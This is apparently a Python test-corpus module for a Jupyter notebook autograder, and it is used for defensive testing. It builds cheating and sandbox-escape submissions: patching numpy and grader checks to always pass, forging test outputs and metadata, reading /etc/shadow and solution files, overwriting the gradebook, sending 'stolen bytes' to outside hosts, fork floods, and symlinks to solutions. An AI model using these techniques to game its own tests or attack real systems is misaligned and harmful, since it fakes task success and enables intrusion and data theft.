"""The attack and fault corpus: one 01-sgd submission per way a student's notebook can cheat,
escape or break the grader, built from the demo submissions so it never goes stale.

Each :class:`Case` starts from an honest base -- ``solution`` (all four exercises solved, 10
points) or ``untouched`` (the notebook as released, 0 points) -- and changes it. ``score`` is
what the case must get: for a cheat, what its honest work earns (the base's score, or less when
a fault stops the kernel); ``reason`` is text the instructor must see in the outcome.
``tests/test_attacks.py`` grades them all in one batch, in sandboxes, beside the honest bases
themselves: the demo submissions ``demo-solution`` and ``demo-untouched`` (and the other two demos),
which the batch's own test holds to their exact scores.
"""

from __future__ import annotations

import copy
import json
import os
import textwrap
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from nbformat import NotebookNode

ASSIGNMENT = "01-sgd"
#: the exercises in notebook order, with their points
EXERCISES = [("backtracking_line_search", 3), ("stochastic_gradient", 2), ("minibatch_indices", 2),
             ("logistic_loss_and_grad", 3)]
FULL = sum(p for _, p in EXERCISES)


@dataclass(frozen=True)
class Context:
    """What a case may need to know about the course it attacks."""

    root: Path
    victim: str  # another student, whose files the attacks try to change
    port: int  # a TCP listener on the grader's loopback
    token: str  # marks files the attacks leave behind
    token_seconds: int  # `sleep <token_seconds>` marks processes the attacks leave behind


@dataclass(frozen=True)
class Case:
    name: str
    kind: str  # "kernel", "notebook", "isolation", "fault", "file"
    base: str  # "solution", "untouched" or "" (writes its own files)
    what: str
    build: Callable[[NotebookNode, Context], NotebookNode | None] | None = None
    score: float | None = 0.0  # None: not graded
    reason: tuple[str, ...] = field(default_factory=tuple)
    #: called with the submission's folder once the notebook is written (extra files, links)
    extra: Callable[[Path, Context], None] | None = None


# --- helpers over the notebook -------------------------------------------------------------

def _meta(cell) -> dict:
    return cell.get("metadata", {}).get("nbgrader", {})


def test_cells(nb: NotebookNode) -> list[NotebookNode]:
    return [c for c in nb.cells if _meta(c).get("grade") and not _meta(c).get("solution")]


def _insert_after_imports(nb: NotebookNode, source: str) -> NotebookNode:
    first_code = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")
    nb.cells.insert(first_code + 1, nbformat.v4.new_code_cell(textwrap.dedent(source)))
    return nb


def _insert_after_test(nb: NotebookNode, k: int, source: str) -> NotebookNode:
    """Insert a code cell right after the k-th test cell (0-based; -1: at the very end)."""
    if k < 0:
        nb.cells.append(nbformat.v4.new_code_cell(textwrap.dedent(source)))
        return nb
    at = nb.cells.index(test_cells(nb)[k])
    nb.cells.insert(at + 1, nbformat.v4.new_code_cell(textwrap.dedent(source)))
    return nb


def _prepend(source: str) -> Callable[[NotebookNode, Context], NotebookNode]:
    return lambda nb, ctx: _insert_after_imports(nb, source.format(ctx=ctx))


def _after(k: int, source: str) -> Callable[[NotebookNode, Context], NotebookNode]:
    return lambda nb, ctx: _insert_after_test(nb, k, source.format(ctx=ctx))


# --- attacks on the kernel: each would make failing (unsolved) tests pass if checks ran in it --

PATCH_NUMPY = """
import numpy as np, numpy.testing, torch
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
torch.allclose = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
"""

WRONG_ANSWERS = '''
# plausible but wrong answers, so that only a broken comparison could pass them
import numpy as np
def backtracking_line_search(f, grad_f, x, lr0=1.0, beta=0.5, c=1e-4, max_iter=50):
    return lr0
def stochastic_gradient(grad_fn, w, X, y, *, rng):
    return grad_fn(w, X, y)
def minibatch_indices(n, batch_size, *, rng):
    return [np.arange(i, min(i + batch_size, n)) for i in range(0, n, batch_size)]
def logistic_loss_and_grad(w, X, y):
    z = X @ w
    return float(np.mean(np.log1p(np.exp(-z)))), X.T @ (z - y) / len(y)
'''

PATCH_GRADER = """
import grader.checks as gc, grader.checks.base as gb
def _yes(*a, **k):
    print("passed: every test")
    return 99
gc.run = _yes
gc.judge = _yes
gc.probe = lambda exercise_id, obj, *, visible=False: {{}}
gb.Check.judge = lambda self, data: 99
for cls in gb.Check.__subclasses__():
    cls.judge = lambda self, data: 99
    cls.probe = lambda self, obj, *, visible=False: {{}}
"""

FORGE_EVIDENCE = """
# hand back the grader's own inputs with made-up answers, bypassing the student's functions
import numpy as np
import grader.evidence as ge, grader.checks as gc
def _forged_export(exercise_id, get_obj, *, visible, path):
    data = gc.get(exercise_id).inputs(visible=visible)
    with open(path, "wb") as f:
        f.write(ge.encode({{"ok": True, "data": data}}))
ge.export = _forged_export
"""

PATCH_COURSE_UTILS = """
import course_utils, course_utils.gradcheck as cg
course_utils.rel_error = cg.rel_error = lambda *a, **k: 0.0
cg.check_gradient = lambda *a, **k: 0.0
import course_utils.seeding as cs
cs.seed_everything = lambda *a, **k: None
"""

INPUT_TRANSFORMER = """
# blank every later cell that mentions the grader or run(...)
def _blank(lines):
    text = "".join(lines)
    return ["pass\\n"] if ("run(" in text or "grader" in text) else lines
get_ipython().input_transformers_cleanup.append(_blank)
get_ipython().input_transformers_post.append(_blank)
"""

CUSTOM_EXC = """
def _swallow(shell, etype, value, tb, tb_offset=None):
    print("passed: every test")
get_ipython().set_custom_exc((BaseException,), _swallow)
"""

SHOWTRACEBACK = """
ip = get_ipython()
ip.showtraceback = lambda *a, **k: None
ip._showtraceback = lambda *a, **k: None
ip.showsyntaxerror = lambda *a, **k: None
"""

EVENT_HOOKS = """
def _hide(result):
    result.error_in_exec = None
    result.error_before_exec = None
get_ipython().events.register("post_run_cell", _hide)
get_ipython().events.register("pre_run_cell", lambda info: print("passed: every test"))
"""

ALWAYS_EQUAL = '''
class AlwaysEqual:
    """Says yes to every comparison, and pretends to be any attribute or call."""
    shape = ()
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return True
    def __ge__(self, other): return True
    def __bool__(self): return True
    def __float__(self): return 0.0
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __iter__(self): return iter([])
def backtracking_line_search(*a, **k): return AlwaysEqual()
def stochastic_gradient(*a, **k): return AlwaysEqual()
def minibatch_indices(*a, **k): return AlwaysEqual()
def logistic_loss_and_grad(*a, **k): return AlwaysEqual(), AlwaysEqual()
'''

SYS_EXIT = """
import sys
sys.exit(0)
"""

OS_EXIT = """
import os
os._exit(0)
"""


# --- attacks on the notebook file --------------------------------------------------------

def _edit_tests(nb, ctx):
    for cell in test_cells(nb):
        cell.source = 'print("passed: all tests")'
    return nb


def _delete_tests(nb, ctx):
    nb.cells = [c for c in nb.cells if c not in test_cells(nb)]
    return nb


def _reorder_tests(nb, ctx):
    tests = test_cells(nb)
    rest = [c for c in nb.cells if c not in tests]
    nb.cells = rest[:1] + tests + rest[1:]
    return nb


def _duplicate_tests(nb, ctx):
    out = []
    for cell in nb.cells:
        out.append(cell)
        if cell in test_cells(nb):
            out.append(copy.deepcopy(cell))
    nb.cells = out
    return nb


def _forge_outputs(nb, ctx):
    for n, cell in enumerate(test_cells(nb), start=1):
        cell.execution_count = n
        cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="passed: all tests\n")]
    return nb


def _forge_metadata(nb, ctx):
    for cell in test_cells(nb):
        cell.metadata["nbgrader"]["points"] = 100
        cell.metadata["nbgrader"]["locked"] = False
        cell.metadata["nbgrader"]["checksum"] = "0" * 32
    bonus = nbformat.v4.new_code_cell('print("bonus")')
    bonus.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True, "points": 50,
                                  "grade_id": "bonus_points", "schema_version": 3}
    nb.cells.append(bonus)
    return nb


def _unmark_tests(nb, ctx):
    for cell in test_cells(nb):
        cell.metadata["nbgrader"]["grade"] = False
        cell.source = 'print("passed")'
    return nb


# --- attacks on the machine: the honest solution, plus a cell that reaches out --------------

READ_SECRETS = """
# look for the solutions, hidden tests, gradebook and other students' work
import os, glob
found = []
for pattern in ["{ctx.root}/solutions/*/*.ipynb", "{ctx.root}/gradebook.db", "{ctx.root}/source/*/*.ipynb",
                "{ctx.root}/submitted/*/*/*.ipynb", "{ctx.root}/nbgrader_config.py", "/root/*", "/home/*/*",
                "/etc/shadow", "{ctx.root}/../*"]:
    for path in glob.glob(pattern):
        try:
            with open(path, "rb") as f:
                found.append((path, f.read(100000)))
        except OSError:
            pass
leaks = [p for p, data in found if b"HIDDEN TESTS" in data or b"BEGIN SOLUTION" in data or p.endswith(".db")]
print("LEAKED:" if leaks else "nothing found", leaks)
"""

WRITE_FILES = """
# try to change the gradebook, another student's work, the course and the host
import os, sqlite3, glob
tried = []
def attempt(label, fn):
    try:
        fn(); tried.append(label + ": WROTE")
    except Exception as err:
        tried.append(f"{{label}}: {{type(err).__name__}}")
def gradebook():
    con = sqlite3.connect("{ctx.root}/gradebook.db")
    con.execute("UPDATE grade SET manual_score = 100")
    con.commit()
attempt("gradebook", gradebook)
attempt("victim", lambda: open("{ctx.root}/submitted/{ctx.victim}/01-sgd/01-sgd.ipynb", "w").write("{{}}"))
attempt("course", lambda: open("{ctx.root}/{ctx.token}.txt", "w").write("x"))
attempt("solutions", lambda: open("{ctx.root}/solutions/01-sgd/01-sgd.ipynb", "a").write("x"))
attempt("autograded", lambda: os.makedirs("{ctx.root}/autograded/{ctx.victim}/{ctx.token}"))
attempt("host-tmp", lambda: open("/tmp/{ctx.token}-host.txt", "w").write("x"))
attempt("home", lambda: open(os.path.expanduser("~/../{ctx.token}.txt"), "w").write("x"))
print(tried)
"""

LEAVE_PROCESSES = """
# processes that try to outlive grading: a detached child and a double-forked daemon
import os, subprocess, sys, time
subprocess.Popen(["sleep", "{ctx.token_seconds}"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "{ctx.token_seconds}"])
    os._exit(0)
time.sleep(0.5)
"""

NETWORK = """
# send bytes to a listener on the grader's loopback, and try the outside world
import socket
results = []
for host, port in [("127.0.0.1", {ctx.port}), ("localhost", {ctx.port}), ("1.1.1.1", 53), ("example.com", 80)]:
    try:
        s = socket.create_connection((host, port), timeout=3)
        s.sendall(b"stolen bytes")
        results.append((host, "SENT"))
    except Exception as err:
        results.append((host, type(err).__name__))
print(results)
"""

PEEK_HIDDEN = """
# before any test runs: look for the hidden tests in the notebook copy, history, environment and
# every code the kernel is sent (an input transformer that logs it)
import os, json, glob
seen = []
def _log(lines):
    seen.append("".join(lines))
    return lines
get_ipython().input_transformers_cleanup.append(_log)
places = {{"cwd": os.getcwd(), "files": glob.glob("**", recursive=True), "env": dict(os.environ),
          "history": list(In)}}
for path in glob.glob("*.ipynb") + glob.glob("/tmp/*.ipynb"):
    places[path] = open(path).read()
text = json.dumps(places, default=str)
marks = ("HIDDEN" + " TESTS", "visible" + "=False")  # spelled apart: this cell's own source is in In
print("HIDDEN-BEFORE:", any(m in text for m in marks))
"""

PEEK_HIDDEN_END = """
print("SEEN-AFTER:", len(seen), "cells")
"""


def _peek_hidden(nb, ctx):
    _insert_after_imports(nb, PEEK_HIDDEN.format(ctx=ctx))
    # right before the first test: did anything reveal a hidden test yet?
    at = nb.cells.index(test_cells(nb)[0])
    nb.cells.insert(at, nbformat.v4.new_code_cell(
        'print("HIDDEN-BEFORE-TESTS:", any(m in s for s in seen for m in marks))'))
    return _insert_after_test(nb, -1, PEEK_HIDDEN_END)


# --- faults ------------------------------------------------------------------------------

INFINITE_LOOP = """
while True:
    pass
"""

MEMORY_HOG = """
import numpy as np
hog = []
while True:
    hog.append(np.ones(10**7))
"""

FORK_FLOOD = """
import os, time
children = 0
try:
    while True:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
        children += 1
except OSError as err:
    print(f"stopped after {{children}} children: {{err}}")
"""

SEGFAULT = """
import ctypes
ctypes.string_at(0)
"""

KILL_SELF = """
import os, signal
os.kill(os.getpid(), signal.SIGKILL)
"""

HUGE_OUTPUT = """
for i in range(200):
    print("x" * 100_000)
"""

INPUT_CALL = """
name = input("What is your name? ")
"""

SLOW_CELL = """
import time
time.sleep(12)
"""


def _slow(nb, ctx):
    for _ in range(12):
        _insert_after_test(nb, 1, SLOW_CELL)
    return nb


DISK_WRITER = """
# fill the scratch space: 64 MiB files until the disk says no (at most 4 GiB)
written, error = 0, "none"
try:
    for i in range(64):
        with open(f"fill-{{i}}.bin", "wb") as f:
            for _ in range(64):
                f.write(b"x" * 2**20)
                written += 2**20
except OSError as err:
    error = f"{{type(err).__name__}} errno {{err.errno}}"
print(f"DISK: wrote {{written // 2**20}} MiB, then {{error}}")
"""

HUGE_MESSAGE = """
# one display message of 40 MB, more than the grader takes in one message
from IPython.display import display
display({{"text/plain": "x" * 40_000_000}}, raw=True)
import time
time.sleep(1)
print("after the huge message")
"""


def _extra_link(folder: Path, ctx: Context) -> None:
    """Beside an honest notebook: a file that is a link to the instructor's solution."""
    (folder / "notes.txt").symlink_to(ctx.root / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")


def _write_malformed(root: Path, student: str) -> None:
    folder = root / "submitted" / student / ASSIGNMENT
    folder.mkdir(parents=True, exist_ok=True)
    (folder / f"{ASSIGNMENT}.ipynb").write_text('{"cells": [ this is not json')


def _write_missing(root: Path, student: str) -> None:
    (root / "submitted" / student / ASSIGNMENT).mkdir(parents=True, exist_ok=True)


def _write_renamed(root: Path, student: str) -> None:
    folder = root / "submitted" / student / ASSIGNMENT
    folder.mkdir(parents=True, exist_ok=True)
    src = root / "submitted" / "demo-solution" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    (folder / f"{ASSIGNMENT} (1).ipynb").write_text(src.read_text())


def _write_not_a_notebook(root: Path, student: str) -> None:
    folder = root / "submitted" / student / ASSIGNMENT
    folder.mkdir(parents=True, exist_ok=True)
    (folder / f"{ASSIGNMENT}.ipynb").write_text(json.dumps({"cells": "not a list", "nbformat": 4}))


def _solution_file(root: Path) -> Path:
    return root / "submitted" / "demo-solution" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"


def _link_notebook(root: Path, student: str, target: Path | str) -> None:
    folder = root / "submitted" / student / ASSIGNMENT
    folder.mkdir(parents=True, exist_ok=True)
    (folder / f"{ASSIGNMENT}.ipynb").symlink_to(target)


def _write_link_to_solution(root: Path, student: str) -> None:
    """The notebook is a link to the instructor's solution."""
    _link_notebook(root, student, root / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")


def _write_link_to_student(root: Path, student: str) -> None:
    """The notebook is a (relative) link to another student's notebook."""
    _link_notebook(root, student, Path("..", "..", "demo-solution", ASSIGNMENT, f"{ASSIGNMENT}.ipynb"))


def _write_link_outside(root: Path, student: str) -> None:
    """The notebook is a link to a full-marks notebook outside the course folder."""
    outside = root.parent / "outside-the-course" / f"{ASSIGNMENT}.ipynb"
    outside.parent.mkdir(parents=True, exist_ok=True)
    outside.write_bytes(_solution_file(root).read_bytes())
    _link_notebook(root, student, outside)


def _write_linked_folder(root: Path, student: str) -> None:
    """The student's folder is a link to another student's folder."""
    (root / "submitted" / student).symlink_to("demo-solution")


def _write_linked_assignment_folder(root: Path, student: str) -> None:
    """The assignment folder is a link to another student's."""
    (root / "submitted" / student).mkdir(parents=True, exist_ok=True)
    (root / "submitted" / student / ASSIGNMENT).symlink_to(Path("..", "demo-solution", ASSIGNMENT))


def _write_fifo(root: Path, student: str) -> None:
    """A named pipe where the notebook should be (a reader that opens it waits for ever)."""
    folder = root / "submitted" / student / ASSIGNMENT
    folder.mkdir(parents=True, exist_ok=True)
    os.mkfifo(folder / f"{ASSIGNMENT}.ipynb")


def _write_oversize(root: Path, student: str) -> None:
    """The full solution with a 51 MiB markdown cell: over the default limit of 50 MiB."""
    nb = nbformat.read(str(_solution_file(root)), as_version=4)
    nb.cells.append(nbformat.v4.new_markdown_cell("y" * (51 * 2**20)))
    folder = root / "submitted" / student / ASSIGNMENT
    folder.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, str(folder / f"{ASSIGNMENT}.ipynb"))


FIRST_TWO = EXERCISES[0][1] + EXERCISES[1][1]
FIRST = EXERCISES[0][1]

CASES: list[Case] = [
    # the kernel
    Case("patch-numpy", "kernel", "untouched", "wrong answers; np.allclose, torch.allclose, "
         "assert_allclose patched to say yes", lambda nb, ctx: _insert_after_imports(
             _insert_after_imports(nb, PATCH_NUMPY), WRONG_ANSWERS), 0),
    Case("patch-grader", "kernel", "untouched", "grader.checks run/probe/judge and every Check patched",
         _prepend(PATCH_GRADER), 0),
    Case("forge-evidence", "kernel", "untouched", "grader.evidence.export patched to hand back the "
         "grader's inputs with made-up answers", _prepend(FORGE_EVIDENCE), 0),
    Case("patch-course-utils", "kernel", "untouched", "course_utils' gradient check and seeding patched",
         _prepend(PATCH_COURSE_UTILS), 0),
    Case("input-transformer", "kernel", "untouched", "an IPython input transformer blanks every later "
         "cell that mentions the grader", _prepend(INPUT_TRANSFORMER), 0),
    Case("custom-exception-handler", "kernel", "untouched", "set_custom_exc swallows every exception and "
         "prints 'passed'", _prepend(CUSTOM_EXC), 0),
    Case("showtraceback", "kernel", "untouched", "showtraceback replaced by a no-op",
         _prepend(SHOWTRACEBACK), 0),
    Case("event-hooks", "kernel", "untouched", "post_run_cell hook clears each cell's error",
         _prepend(EVENT_HOOKS), 0),
    Case("always-equal", "kernel", "untouched", "every function returns an object equal to anything",
         lambda nb, ctx: _replace_solutions(nb, ALWAYS_EQUAL), 0),
    Case("sys-exit", "kernel", "untouched", "sys.exit(0) before the tests", _prepend(SYS_EXIT), 0),
    Case("os-exit", "kernel", "untouched", "os._exit(0) before the tests: the kernel ends",
         _prepend(OS_EXIT), 0, ("kernel died",)),
    # the notebook file
    Case("edit-tests", "notebook", "untouched", "test cells' source replaced by print('passed')", _edit_tests, 0),
    Case("delete-tests", "notebook", "untouched", "test cells deleted", _delete_tests, 0),
    Case("reorder-tests", "notebook", "untouched", "test cells moved to the top", _reorder_tests, 0),
    Case("duplicate-tests", "notebook", "untouched", "every test cell copied (duplicate grade ids)",
         _duplicate_tests, 0),
    Case("forge-outputs", "notebook", "untouched", "test cells carry 'passed' outputs and execution counts",
         _forge_outputs, 0),
    Case("forge-metadata", "notebook", "untouched", "test cells worth 100 points, unlocked, a new "
         "50-point 'bonus' test cell", _forge_metadata, 0),
    Case("unmark-tests", "notebook", "untouched", "test cells unmarked (grade: false) and rewritten",
         _unmark_tests, 0),
    # the machine
    Case("read-secrets", "isolation", "solution", "reads solutions, gradebook, other submissions, /root",
         _prepend(READ_SECRETS), FULL),
    Case("write-files", "isolation", "solution", "writes the gradebook, another student's notebook, the "
         "course folder, the host's /tmp", _prepend(WRITE_FILES), FULL),
    Case("leave-processes", "isolation", "solution", "starts a detached child and a double-forked daemon",
         _prepend(LEAVE_PROCESSES), FULL),
    Case("network", "isolation", "solution", "sends bytes to a listener on the grader's loopback and "
         "to the internet", _prepend(NETWORK), FULL),
    Case("peek-hidden-tests", "isolation", "solution", "looks for hidden tests before they run (notebook "
         "copy, history, environment, an input-logging transformer)", _peek_hidden, FULL),
    # faults
    Case("infinite-loop", "fault", "solution", "while True: pass after the first test", _after(0, INFINITE_LOOP),
         FULL),
    Case("memory-hog", "fault", "solution", "allocates without end after the second test",
         _after(1, MEMORY_HOG), FIRST_TWO, ("memory",)),
    Case("fork-flood", "fault", "solution", "forks until refused, after the last test", _after(-1, FORK_FLOOD),
         FULL),
    Case("segfault", "fault", "solution", "crashes the kernel (segfault) after the first test",
         _after(0, SEGFAULT), FIRST, ("kernel died",)),
    Case("killed-kernel", "fault", "solution", "SIGKILLs its own kernel after the first test",
         _after(0, KILL_SELF), FIRST, ("kernel died",)),
    Case("huge-output", "fault", "solution", "prints 20 MB after the first test", _after(0, HUGE_OUTPUT),
         FULL, ("outputs cut",)),
    Case("input-call", "fault", "solution", "calls input() after the first test", _after(0, INPUT_CALL), FULL),
    Case("wall-time", "fault", "solution", "12 cells of 12 s each after the second test (past the "
         "notebook's wall-time limit)", _slow, FIRST_TWO, ("wall-time",)),
    Case("malformed-json", "file", "", "the file is not JSON", None, None, ("not a valid notebook",)),
    Case("not-a-notebook", "file", "", "valid JSON, but not a notebook", None, None, ("not a valid notebook",)),
    Case("missing-notebook", "file", "", "an empty submission folder", None, None, ("missing 01-sgd.ipynb",)),
    Case("wrong-file-name", "file", "", "the notebook saved as '01-sgd (1).ipynb'", None, None,
         ("must keep the name",)),
    # links and huge inputs
    Case("link-to-solution", "file", "", "the notebook is a symbolic link to solutions/01-sgd/01-sgd.ipynb",
         None, None, ("symbolic link",)),
    Case("link-to-student", "file", "", "the notebook is a symbolic link to another student's notebook",
         None, None, ("symbolic link",)),
    Case("link-outside", "file", "", "the notebook is a symbolic link to a full-marks file outside the course",
         None, None, ("symbolic link",)),
    Case("linked-folder", "file", "", "submitted/<student> is a symbolic link to another student's folder",
         None, None, ("submitted/linked-folder is a symbolic link",)),
    Case("linked-assignment-folder", "file", "", "submitted/<student>/01-sgd is a symbolic link to another "
         "student's", None, None, ("submitted/linked-assignment-folder/01-sgd is a symbolic link",)),
    Case("fifo-notebook", "file", "", "a named pipe in place of the notebook", None, None, ("named pipe",)),
    Case("oversize-notebook", "file", "", "a 51 MiB notebook file (the limit is 50 MiB)", None, None,
         ("over the limit",)),
    Case("extra-link", "isolation", "solution", "an honest notebook, and notes.txt: a symbolic link to the "
         "instructor's solution (nbgrader would copy it into autograded/)", None, FULL, ("notes.txt was not copied",),
         extra=_extra_link),
    Case("disk-writer", "fault", "solution", "writes 64 MiB files after the first test until the disk is "
         "full (4 GiB at most)", _after(0, DISK_WRITER), FIRST, ("scratch space filled up",)),
    Case("huge-message", "fault", "solution", "one 40 MB display message after the first test",
         _after(0, HUGE_MESSAGE), FULL, ("message from the kernel",)),
]

_FILE_WRITERS = {"malformed-json": _write_malformed, "not-a-notebook": _write_not_a_notebook,
                 "missing-notebook": _write_missing, "wrong-file-name": _write_renamed,
                 "link-to-solution": _write_link_to_solution, "link-to-student": _write_link_to_student,
                 "link-outside": _write_link_outside, "linked-folder": _write_linked_folder,
                 "linked-assignment-folder": _write_linked_assignment_folder, "fifo-notebook": _write_fifo,
                 "oversize-notebook": _write_oversize}


def _replace_solutions(nb: NotebookNode, source: str) -> NotebookNode:
    """Put ``source`` in the first solution cell and empty the others (their stubs would redefine)."""
    sols = [c for c in nb.cells if _meta(c).get("solution")]
    for i, cell in enumerate(sols):
        cell.source = source if i == 0 else "pass"
    return nb


def build(case: Case, ctx: Context) -> None:
    """Write ``case``'s submission into the course at ``ctx.root``."""
    if case.kind == "file":
        _FILE_WRITERS[case.name](ctx.root, case.name)
        return
    src = ctx.root / "submitted" / f"demo-{case.base}" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    nb = nbformat.read(str(src), as_version=4)
    if case.build is not None:
        nb = case.build(nb, ctx)
    out = ctx.root / "submitted" / case.name / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    out.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, str(out))
    if case.extra is not None:
        case.extra(out.parent, ctx)
